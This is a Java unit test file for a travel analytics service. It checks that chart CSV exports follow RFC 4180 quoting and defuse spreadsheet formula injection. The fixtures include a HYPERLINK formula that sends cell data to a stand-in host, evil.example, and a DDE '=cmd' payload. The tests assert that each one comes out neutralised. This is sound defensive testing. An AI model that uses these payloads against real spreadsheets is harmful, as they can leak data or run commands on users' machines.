package io.tripdesk.analytics.internal;

import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/** A chart's CSV: RFC 4180 quoting, and text that a spreadsheet would run as a formula defused. */
class ChartCsvTests {

	private static final List<ChartService.Column> COLUMNS = List.of(new ChartService.Column("agent", "Agent", "text"),
			new ChartService.Column("leads", "Leads", "number"), new ChartService.Column("revenue", "Revenue", "money"));

	private static String csv(List<ChartService.Column> columns, List<Map<String, @Nullable Object>> rows) {
		LocalDate day = LocalDate.of(2026, 10, 1);
		return ChartCsv.render(new ChartService.Chart("leaderboard", "Leaderboard", "day",
				MetricsService.Range.of(day, day, ZoneOffset.UTC), columns, rows, ""));
	}

	private static Map<String, @Nullable Object> row(@Nullable Object agent, Object leads, Object revenue) {
		Map<String, @Nullable Object> row = new HashMap<>();
		row.put("agent", agent);
		row.put("leads", leads);
		row.put("revenue", revenue);
		return row;
	}

	@Test
	void textThatASpreadsheetWouldRunAsAFormulaBeginsWithAQuote() {
		String csv = csv(COLUMNS, List.of(row("=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", 1, BigDecimal.ONE),
				row("+1 555 0100", 2, BigDecimal.TEN), row("-2+3", 3, BigDecimal.ONE), row("@SUM(A1:A9)", 4, BigDecimal.ONE),
				row("\tTabbed", 5, BigDecimal.ONE), row("\rReturned", 6, BigDecimal.ONE), row("Ana = Bea", 7, BigDecimal.ONE)));

		assertThat(csv.split("\r\n")).containsExactly("Agent,Leads,Revenue",
				"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1, \"\"Click\"\")\",1,1", "'+1 555 0100,2,10", "'-2+3,3,1",
				"'@SUM(A1:A9),4,1", "'\tTabbed,5,1", "\"'\rReturned\",6,1", "Ana = Bea,7,1");
	}

	@Test
	void numbersStayNumbersNegativeOnesToo() {
		String csv = csv(COLUMNS, List.of(row("Ana", -3L, new BigDecimal("-12.50")), row("-", 0, new BigDecimal("1E+3"))));

		assertThat(csv.split("\r\n")).containsExactly("Agent,Leads,Revenue", "Ana,-3,-12.50", "'-,0,1000");
	}

	@Test
	void aLabelFromTheDataIsDefusedToo() {
		var columns = List.of(new ChartService.Column("agent", "=cmd|' /C calc'!A0", "text"));
		Map<String, @Nullable Object> empty = new HashMap<>();
		empty.put("agent", null);

		assertThat(csv(columns, List.of(empty))).isEqualTo("'=cmd|' /C calc'!A0\r\n\r\n");
	}

}
